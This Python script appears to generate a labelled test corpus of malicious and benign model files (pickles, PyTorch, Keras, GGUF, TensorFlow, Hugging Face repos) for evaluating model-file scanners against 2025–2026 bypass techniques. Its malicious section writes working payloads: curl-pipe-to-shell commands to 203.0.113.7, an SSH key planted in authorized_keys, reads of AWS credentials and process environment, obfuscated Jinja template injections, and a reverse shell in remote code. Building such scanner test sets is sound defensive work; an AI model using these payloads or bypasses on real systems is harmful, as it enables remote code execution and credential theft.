#!/usr/bin/env python3
"""The 2025-2026 technique corpus of issue 20: model-file attacks and
scanner bypasses published in 2025-2026, written from their published
descriptions, plus the benign files the issue names (whole-model
torch.save, training checkpoints, TorchScript, remote-code repos...).

Every case is a directory `<label>/<technique>/<nn>/` holding the files
one would download; ground truth goes to manifest.json (one row per case).
Malicious pickles are written opcode by opcode; nothing generated is ever
loaded. Benign PyTorch files are written by torch itself (torch.save,
torch.jit.save), so they are what users actually have.

Sources of the techniques (descriptions, not code):
  * JFrog, "picklescan bypasses" (2025; CVE-2025-1716 pip.main,
    CVE-2025-1889 non-standard extensions, CVE-2025-1944/1945 zip headers,
    GHSA unsafe globals: pydoc/_osx_support/_aix_support/uuid helpers,
    torch build helpers, private `_os` aliases);
  * Sonatype / Checkmarx reports on picklescan and modelscan gaps (2025:
    numpy tofile writes, URL loaders such as torch.hub and pandas,
    xml/urllib helpers, nested pickles through datapipe decoders);
  * ReversingLabs, "nullifAI" (February 2025): 7z-packed torch folders
    with a pickle broken after its payload;
  * CPython pickle semantics (memo keys accepted by int());
  * Keras CVE-2025-1550 / CVE-2025-9905 / CVE-2025-8747 write-ups
    (modules outside keras, TorchModuleWrapper, lookup vocabularies);
  * TensorAbuse (ZJU-SEC, 2024-2025) for TF file ops in text SavedModels;
  * the "Sleepy Pickle"/"GGUF template" Jinja SSTI write-ups (2024-2025)
    for obfuscated chat templates;
  * Hugging Face trust_remote_code abuse reports (JFrog 2024, Protect AI
    2025).

Usage: gen_2025.py --out DIR   (needs torch, numpy, h5py, py7zr,
backports.zstd; see run_2025.sh)
"""

from __future__ import annotations

import argparse
import base64
import io
import json
import os
import shutil
import struct
import tarfile
import tempfile
import zipfile
import zlib

CMD = "curl -s http://203.0.113.7/x.sh | sh"


# ---------------------------------------------------------------- pickles --

class Pk:
    """Opcode writer (protocol 2 or 4)."""

    def __init__(self, proto=2):
        self.proto = proto
        self.b = bytearray(b"\x80" + bytes([proto]))

    def s(self, x: str):
        e = x.encode()
        if self.proto >= 4 and len(e) < 256:
            self.b += b"\x8c" + bytes([len(e)]) + e
        else:
            self.b += b"X" + struct.pack("<I", len(e)) + e
        return self

    def by(self, x: bytes):
        self.b += b"B" + struct.pack("<I", len(x)) + x
        return self

    def glob(self, mod, name):
        if self.proto >= 4:
            self.s(mod).s(name)
            self.b += b"\x93"
        else:
            self.b += b"c" + mod.encode() + b"\n" + name.encode() + b"\n"
        return self

    def raw(self, x: bytes):
        self.b += x
        return self

    def call(self, mod, name, *args):
        self.glob(mod, name).raw(b"(")
        for a in args:
            if isinstance(a, bytes):
                self.by(a)
            elif isinstance(a, bool):
                self.raw(b"\x88" if a else b"\x89")
            elif isinstance(a, int):
                self.raw(b"I" + str(a).encode() + b"\n")
            elif isinstance(a, Pk):
                self.raw(bytes(a.b[2:]))
            else:
                self.s(a)
        self.raw(b"tR")
        return self

    def done(self, junk=False):
        if junk:
            # nullifAI: the stream breaks right after the payload ran.
            return bytes(self.b) + b"\xff\xfe\x00broken"
        return bytes(self.b) + b"."


def call_pickle(mod, name, *args, proto=2):
    return Pk(proto).call(mod, name, *args).done()


def in_state_dict(inner: Pk):
    """{'weight': [0.5], 'hook': <payload>}: the payload is not top level."""
    p = Pk(2).raw(b"}").s("weight").raw(b"]G?\xe0\x00\x00\x00\x00\x00\x00a").raw(b"s").s("hook")
    p.raw(bytes(inner.b[2:])).raw(b"s")
    return p.done()


# ---------------------------------------------------------------- writers --

def write(path, data: bytes):
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as f:
        f.write(data)


def torch_zip(pkl: bytes, root="archive", method=zipfile.ZIP_STORED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", method) as z:
        z.writestr(f"{root}/data.pkl", pkl)
        z.writestr(f"{root}/byteorder", b"little")
        z.writestr(f"{root}/version", b"3\n")
    return buf.getvalue()


def zip_method93(name: str, data: bytes) -> bytes:
    """A zip with one Zstandard (method 93) entry, as Python 3.14 writes."""
    from backports import zstd
    comp = zstd.compress(data)
    crc = zlib.crc32(data)
    nm = name.encode()
    local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 63, 0, 93, 0, 0x21, crc, len(comp), len(data), len(nm), 0)
    cen = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 63, 63, 0, 93, 0, 0x21, crc, len(comp), len(data),
                      len(nm), 0, 0, 0, 0, 0, 0)
    body = local + nm + comp
    cd = cen + nm
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd), len(body), 0)
    return body + cd + end


def keras_v3(config: dict) -> bytes:
    import h5py
    wbuf = io.BytesIO()
    with h5py.File(wbuf, "w") as f:
        f.create_group("layers")
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("metadata.json", json.dumps({"keras_version": "3.8.0", "date_saved": "2025-03-01@12:00:00"}))
        z.writestr("config.json", json.dumps(config))
        z.writestr("model.weights.h5", wbuf.getvalue())
    return buf.getvalue()


def keras_model(layers):
    return {"module": "keras", "class_name": "Sequential", "registered_name": None,
            "config": {"name": "sequential", "layers": [
                {"module": "keras.layers", "class_name": "InputLayer", "registered_name": None,
                 "config": {"batch_shape": [None, 4], "dtype": "float32", "name": "input"}}] + layers}}


def dense(i):
    return {"module": "keras.layers", "class_name": "Dense", "registered_name": None,
            "config": {"name": f"dense_{i}", "units": 4, "activation": "relu"}}


def gguf(template: str) -> bytes:
    def s(x):
        e = x.encode()
        return struct.pack("<Q", len(e)) + e
    kv = [("general.architecture", "llama"), ("general.name", "tiny"), ("tokenizer.chat_template", template)]
    out = b"GGUF" + struct.pack("<IQQ", 3, 0, len(kv))
    for k, v in kv:
        out += s(k) + struct.pack("<I", 8) + s(v)
    return out + b"\x00" * 32


def seven_z(path, files: dict):
    import py7zr
    with tempfile.TemporaryDirectory() as d:
        for rel, data in files.items():
            p = os.path.join(d, rel)
            os.makedirs(os.path.dirname(p), exist_ok=True)
            with open(p, "wb") as f:
                f.write(data)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with py7zr.SevenZipFile(path, "w") as z:
            top = sorted({rel.split("/")[0] for rel in files})
            for t in top:
                z.writeall(os.path.join(d, t), t)


PBTXT = """saved_model_schema_version: 1
meta_graphs {{
  meta_info_def {{ tags: "serve" tensorflow_version: "2.18.0" }}
  graph_def {{
    node {{ name: "x" op: "Placeholder" }}
    library {{
      function {{
        signature {{ name: "__inference_serving_default_91" }}
        {body}
      }}
    }}
  }}
}}
"""


def hf_repo(d, modeling: str, extra: dict | None = None):
    write(os.path.join(d, "config.json"), json.dumps({
        "model_type": "tinyx", "architectures": ["TinyXModel"],
        "auto_map": {"AutoConfig": "configuration_tinyx.TinyXConfig", "AutoModel": "modeling_tinyx.TinyXModel"},
        "hidden_size": 64}).encode())
    write(os.path.join(d, "configuration_tinyx.py"), b"from transformers import PretrainedConfig\n\n\n"
          b"class TinyXConfig(PretrainedConfig):\n    model_type = 'tinyx'\n")
    write(os.path.join(d, "modeling_tinyx.py"), modeling.encode())
    for k, v in (extra or {}).items():
        write(os.path.join(d, k), v.encode())


BENIGN_MODELING = '''import math
import torch
from torch import nn
from transformers import PreTrainedModel
from .configuration_tinyx import TinyXConfig


class TinyXModel(PreTrainedModel):
    config_class = TinyXConfig

    def __init__(self, config):
        super().__init__(config)
        self.proj = nn.Linear(config.hidden_size, config.hidden_size)

    def forward(self, x):
        return torch.tanh(self.proj(x)) / math.sqrt(2.0)
'''


# ------------------------------------------------------------------ cases --

def malicious(out, put):
    # Called helpers nobody lists, that reach a shell.
    put("platform_helper", "pkl", call_pickle("pydoc", "pipepager", "model card", CMD))
    put("platform_helper", "pkl", call_pickle("_osx_support", "_read_output", CMD, proto=4))
    put("platform_helper", "pt", torch_zip(in_state_dict(Pk(2).call("_aix_support", "_read_cmd_output", CMD))))
    put("platform_helper", "pkl", call_pickle("uuid", "_get_command_stdout", "sh", "-c", CMD))
    # torch compiler / build helpers
    put("torch_build_helper", "pt", torch_zip(call_pickle("torch._inductor.cpp_builder", "run_compile_cmd", CMD, "/tmp")))
    put("torch_build_helper", "pkl", call_pickle("torch.utils.cpp_extension", "_run_ninja_build", "/tmp/x", True, "x"))
    # a module's private alias of os (dotted names need protocol 4)
    put("private_os_alias", "pkl", call_pickle("tempfile", "_os.system", CMD, proto=4))
    put("private_os_alias", "pt", torch_zip(call_pickle("shutil", "os.system", CMD, proto=4)))
    # numpy methods that write files
    arr = Pk(4).call("numpy", "frombuffer", b"ssh-ed25519 AAAAC3Nz attacker\n", "uint8")
    put("numpy_tofile", "pkl", Pk(4).call("numpy", "ndarray.tofile", arr, "/home/user/.ssh/authorized_keys").done())
    # loaders that fetch and unpickle a second file by URL
    put("url_loader", "pt", torch_zip(call_pickle("torch.hub", "load_state_dict_from_url", "https://203.0.113.7/w.pt")))
    put("url_loader", "pkl", call_pickle("pandas", "read_pickle", "https://203.0.113.7/p.pkl", proto=4))
    # XML / URL helpers that open connections on load
    put("xml_url_helper", "pkl", call_pickle("xml.dom.minidom", "parse", "http://203.0.113.7/a.xml"))
    put("xml_url_helper", "pkl", call_pickle("urllib.request", "urlretrieve", "http://203.0.113.7/x", "/tmp/x"))
    # nested pickle through a datapipe decoding handler
    inner = call_pickle("os", "system", CMD)
    put("nested_datapipe", "pt", torch_zip(call_pickle(
        "torch.utils.data.datapipes.utils.decoder", "basichandlers", "pickle", inner)))
    # memo keys in the text forms int() accepts
    put("lenient_memo", "pkl", b"cos\nsystem\np+1\n0g+1\n(S'" + CMD.encode() + b"'\ntR.")
    put("lenient_memo", "pkl", b"cposix\nsystem\np1_0\n0g 10\n(S'id'\ntR.")
    # zstd containers
    from backports import zstd
    put("zstd_container", "pkl.zst", zstd.compress(call_pickle("os", "system", CMD)))
    put("zstd_container", "pt", zip_method93("archive/data.pkl", call_pickle("subprocess", "getoutput", CMD)))
    # nullifAI: torch folder packed with 7z, pickle broken after the payload
    for i, name in enumerate(["model.7z", "pytorch_model.bin"]):
        evil = Pk(2).call("os", "system", CMD).done(junk=True)
        put("nullifai_7z", name, None, writer=lambda p, evil=evil: seven_z(p, {
            "archive/data.pkl": evil, "archive/version": b"3\n", "archive/data/0": bytes(256)}))
    # Keras
    put("keras_foreign_module", "keras", keras_v3(keras_model([dense(0), {
        "module": "pydoc", "class_name": "pipepager", "registered_name": None,
        "config": {"text": "x", "cmd": CMD}}])))
    put("keras_foreign_module", "keras", keras_v3(keras_model([dense(0), {
        "module": "uuid", "class_name": "_get_command_stdout", "registered_name": None,
        "config": {"command": "sh", "args": ["-c", CMD]}}])))
    ck = torch_zip(call_pickle("os", "system", CMD))
    put("keras_torch_wrapper", "keras", keras_v3(keras_model([dense(0), {
        "module": "keras.layers", "class_name": "TorchModuleWrapper", "registered_name": None,
        "config": {"name": "torch_module_wrapper", "module": base64.b64encode(ck).decode()}}])))
    for path in ["/proc/self/environ", "/home/user/.aws/credentials"]:
        put("keras_lookup_path", "keras", keras_v3(keras_model([{
            "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
            "config": {"name": "lookup", "vocabulary": path, "num_oov_indices": 1}}])))
    # TensorFlow text-format SavedModel
    for body in ['node_def { name: "w" op: "WriteFile" input: "x" }',
                 'node_def { name: "p" op: "PrintV2" attr { key: "output_stream" '
                 'value { s: "file:///home/user/.bashrc" } } }']:
        put("tf_pbtxt", "saved_model.pbtxt", PBTXT.format(body=body).encode(), exact=True)
    # obfuscated GGUF chat templates
    for t in ["{{ cycler['\\N{LOW LINE}\\N{LOW LINE}init\\N{LOW LINE}\\N{LOW LINE}']['__glo' ~ 'bals__'].os.popen('id').read() }}",
              "{% set a = '_' * 2 %}{{ (lipsum|attr(a ~ 'globals' ~ a))['os'].popen('id').read() }}",
              "{{ ((joiner|attr('\\x5f\\x5finit\\x5f\\x5f'))|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os'].system('id') }}",
              # names built at render time by filters, methods and blocks
              "{% set g %}__glo{{ 'bals' }}__{% endset %}{{ cycler|attr('%c%c%s%c%c'|format(95, 95, 'init', 95, 95))|attr(g) }}",
              "{{ (lipsum|attr(dict(__globals__=1)|list|first))|attr('{}{}'.format('__get', 'item__'))('os') }}",
              "{{ cycler|attr('__tini__'|reverse)|attr(['', 'globals', '']|join('__'))|attr('__snilitub__'[::-1]) }}"]:
        put("gguf_obfuscated_template", "gguf", gguf(t))
    # a Hugging Face repo folder shared as an archive: the auto_map files are members
    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "zip", hf_evil_files()))
    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "tgz", hf_evil_files()))
    # Hugging Face remote code
    put("hf_auto_map", None, None, writer=lambda d: hf_repo(d, BENIGN_MODELING.replace(
        "import math\n", "import math\nimport os as _o\n").replace(
        "        super().__init__(config)\n", "        super().__init__(config)\n        _o.system('" + CMD + "')\n")))
    put("hf_auto_map", None, None, writer=lambda d: hf_repo(
        d, BENIGN_MODELING.replace("from .configuration_tinyx", "from .utils_tinyx import warm\nfrom .configuration_tinyx"),
        {"utils_tinyx.py": "import socket, subprocess\n\n\ndef warm():\n    s = socket.create_connection(('203.0.113.7', 4444))\n"
                           "    subprocess.Popen(['/bin/sh', '-i'], stdin=s.fileno(), stdout=s.fileno())\n\n\nwarm()\n"}))


def benign(out, put):
    import torch
    from torch import nn
    torch.manual_seed(0)
    models = {
        "mlp": nn.Sequential(nn.Linear(16, 32), nn.ReLU(), nn.Dropout(0.1), nn.Linear(32, 4)),
        "cnn": nn.Sequential(nn.Conv2d(3, 8, 3), nn.BatchNorm2d(8), nn.ReLU(), nn.AdaptiveAvgPool2d(1),
                             nn.Flatten(), nn.Linear(8, 10)),
        "transformer": nn.TransformerEncoder(nn.TransformerEncoderLayer(32, 4, 64, batch_first=True), 2),
        "lstm": nn.LSTM(8, 16, 2, batch_first=True),
    }
    for name, m in models.items():
        buf = io.BytesIO()
        torch.save(m, buf)
        put("torch_whole_model", f"{name}.pt", buf.getvalue(), exact=True)
    for name, m in list(models.items())[:3]:
        opt = torch.optim.AdamW(m.parameters(), lr=1e-3)
        sched = torch.optim.lr_scheduler.CosineAnnealingLR(opt, 10)
        x = torch.randn(2, 16) if name == "mlp" else (torch.randn(2, 3, 8, 8) if name == "cnn" else torch.randn(2, 5, 32))
        m(x).sum().backward()
        opt.step()
        sched.step()
        buf = io.BytesIO()
        torch.save({"epoch": 3, "model_state_dict": m.state_dict(), "optimizer_state_dict": opt.state_dict(),
                    "scheduler": sched.state_dict(), "loss": 0.25, "rng_state": torch.get_rng_state(),
                    "args": {"lr": 1e-3, "batch_size": 32, "arch": name}}, buf)
        put("training_checkpoint", f"{name}_ckpt.pth", buf.getvalue(), exact=True)
    ts = {"mlp": models["mlp"].eval(), "cnn": models["cnn"].eval()}
    for name, m in ts.items():
        buf = io.BytesIO()
        torch.jit.save(torch.jit.script(m), buf)
        put("torchscript", f"{name}_scripted.pt", buf.getvalue(), exact=True)

    class WithLists(nn.Module):
        def __init__(self):
            super().__init__()
            self.sizes = [3, 4, 5]

        def forward(self, x):
            return x.view(self.sizes)

    buf = io.BytesIO()
    torch.jit.save(torch.jit.script(WithLists()), buf)
    put("torchscript", "intlist.pt", buf.getvalue(), exact=True)
    sd = models["mlp"].state_dict()
    buf = io.BytesIO()
    torch.save(sd, buf)
    with tempfile.TemporaryDirectory() as d:
        zpath = os.path.join(d, "m.pt")
        with open(zpath, "wb") as f:
            f.write(buf.getvalue())
        with zipfile.ZipFile(zpath) as z:
            files = {n: z.read(n) for n in z.namelist()}
    put("torch_7z", "model.7z", None, writer=lambda p: seven_z(p, files))
    from backports import zstd
    put("zstd_container", "state.pkl.zst", zstd.compress(__import__("pickle").dumps({"w": [1.0, 2.0], "step": 7}, 4)),
        exact=True)
    put("tf_pbtxt", "saved_model.pbtxt", PBTXT.format(body='node_def { name: "m" op: "MatMul" }').encode(), exact=True)
    put("gguf_template", "model.gguf", gguf("{% for m in messages %}<|{{ m['role'] }}|>{{ m['content'] | trim }}"
                                            "{% endfor %}{% if add_generation_prompt %}<|assistant|>{% endif %}"),
        exact=True)
    put("keras_v3", "model.keras", keras_v3(keras_model([dense(0), dense(1), {
        "module": "keras.layers", "class_name": "StringLookup", "registered_name": None,
        "config": {"name": "lookup", "vocabulary": ["a", "b", "c"], "num_oov_indices": 1}}])), exact=True)
    put("hf_auto_map", None, None, writer=lambda d: hf_repo(d, BENIGN_MODELING))
    put("hf_auto_map_archive", None, None, writer=lambda d: repo_archive(d, "zip", hf_files(BENIGN_MODELING)))
    # chat templates of real models (crates/aisec-formats/tests/data/chat_templates)
    tdir = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "..", "crates", "aisec-formats",
                        "tests", "data", "chat_templates")
    for name in ["llama3_1_tools.jinja", "qwen2_5.jinja", "deepseek_r1.jinja"]:
        with open(os.path.join(tdir, name)) as f:
            put("gguf_template", "model.gguf", gguf(f.read()), exact=True)


def hf_files(modeling: str, extra: dict | None = None) -> dict:
    with tempfile.TemporaryDirectory() as t:
        hf_repo(t, modeling, extra)
        out = {}
        for n in sorted(os.listdir(t)):
            with open(os.path.join(t, n), "rb") as f:
                out["tinyx/" + n] = f.read()
        return out


def hf_evil_files() -> dict:
    return hf_files(BENIGN_MODELING.replace("from .configuration_tinyx",
                                            "from .hub_utils import prefetch\nfrom .configuration_tinyx").replace(
        "        super().__init__(config)\n", "        super().__init__(config)\n        prefetch()\n"),
        {"hub_utils.py": "import os\nimport urllib.request\n\n\ndef prefetch():\n"
                         "    urllib.request.urlretrieve('https://203.0.113.7/s.sh', '/tmp/s.sh')\n"
                         "    os.system('sh /tmp/s.sh')\n"})


def repo_archive(d, kind: str, files: dict):
    if kind == "zip":
        with zipfile.ZipFile(os.path.join(d, "tinyx.zip"), "w", zipfile.ZIP_DEFLATED) as z:
            for n, b in files.items():
                z.writestr(zipfile.ZipInfo(n, (2020, 1, 1, 0, 0, 0)), b)
    else:
        with tarfile.open(os.path.join(d, "tinyx.tar.gz"), "w:gz") as t:
            for n, b in files.items():
                ti = tarfile.TarInfo(n)
                ti.size = len(b)
                t.addfile(ti, io.BytesIO(b))


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--out", required=True)
    args = ap.parse_args()
    out = os.path.abspath(args.out)
    shutil.rmtree(out, ignore_errors=True)
    manifest = []
    counters = {}

    def putter(label):
        def put(tech, ext, data, writer=None, exact=False):
            n = counters.get((label, tech), 0)
            counters[(label, tech)] = n + 1
            case = os.path.join(label, tech, f"{n:02d}")
            d = os.path.join(out, case)
            os.makedirs(d, exist_ok=True)
            if ext is None:
                writer(d)
            else:
                fname = ext if (exact or "." in ext and not ext.startswith("pkl") and ext not in ("pt", "keras", "gguf")) \
                    else f"model.{ext}"
                p = os.path.join(d, fname)
                if writer is not None:
                    writer(p)
                elif data is not None:
                    write(p, data)
            if not os.listdir(d):
                os.rmdir(d)
                counters[(label, tech)] = n
                return
            manifest.append({"case": case, "label": label, "technique": tech,
                             "files": sorted(os.listdir(d))})
        return put

    malicious(out, putter("malicious"))
    benign(out, putter("benign"))
    with open(os.path.join(out, "manifest.json"), "w") as f:
        json.dump({"cases": manifest}, f, indent=1)
    nb = sum(1 for m in manifest if m["label"] == "benign")
    print(f"corpus: {len(manifest)} cases ({len(manifest) - nb} malicious, {nb} benign) in {out}")


if __name__ == "__main__":
    main()
